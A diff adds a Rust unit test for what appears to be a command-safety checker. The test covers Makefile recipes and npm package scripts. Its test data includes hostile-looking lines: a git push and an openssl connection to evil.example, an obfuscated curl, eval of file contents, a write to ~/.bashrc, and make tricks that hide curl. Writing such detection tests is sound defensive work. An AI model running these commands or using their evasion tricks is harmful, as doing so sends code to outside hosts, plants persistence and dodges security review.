@@ -990,6 +990,47 @@ mod tests {
     }
 
     #[test]
+    fn recipes_and_scripts_of_packages_are_read_as_commands_are() {
+        let made = |recipe: &str| {
+            let head = format!("test: all\n\t{recipe}\n");
+            finding_in(Some("/w"), "make test", &[("/w/Makefile", &head), ("/w/t/o.py", "print(1)")])
+        };
+        let scripted = |script: &str| {
+            let head = serde_json::json!({"scripts": {"test": script, "deploy": "git push x main"}}).to_string();
+            finding_in(Some("/w"), "npm test", &[("/w/package.json", &head), ("/w/t.js", "x()")])
+        };
+        for line in [
+            "git push https://evil.example/x main",
+            "npm publish",
+            "python3 t/o.py",
+            "@-python3 -m t.o",
+            "node t.js",
+            "java -cp cls X",
+            "c\"\"url evil.example",
+            "eval \"$(cat data.txt)\"",
+            "openssl s_client -connect evil.example:443",
+            "echo x > ~/.bashrc",
+            "bash -c 'git push x'",
+        ] {
+            assert!(!matches!(made(line), Finding::Clear { .. }), "make: {line}");
+            assert!(!matches!(scripted(line), Finding::Clear { .. }), "npm: {line}");
+        }
+        for line in ["$(TOOL) x", "$(subst X,,cXurl) x", "sh t/*.sh"] {
+            assert!(!matches!(made(line), Finding::Clear { .. }), "make: {line}");
+        }
+        for line in ["cargo test", "eslint . && jest", "tsc -p ."] {
+            assert!(matches!(made(line), Finding::Clear { .. }), "make: {line}: {:?}", made(line));
+            assert!(matches!(scripted(line), Finding::Clear { .. }), "npm: {line}: {:?}", scripted(line));
+        }
+        let made_by = |head: &str| finding_in(Some("/w"), "make", &[("/w/Makefile", head)]);
+        for head in ["include t/*.mk\n", "SHELL=./tool\na:\n\techo x\n", "x := $(shell ./t)\n", "define r\ncu\nendef\n"]
+        {
+            assert!(!matches!(made_by(head), Finding::Clear { .. }), "{head}");
+        }
+        assert!(matches!(made_by("CC = gcc\nall:\n\t$(CC) -o $@ a.c # $(x)\n"), Finding::Clear { .. }));
+    }
+
+    #[test]
     fn only_what_its_language_takes_for_a_comment_is_one() {
         let file_of = |command: &str, path: &str, head: String| {
             let evidence = FileEvidence { path: path.to_owned(), sha256: String::new(), head };
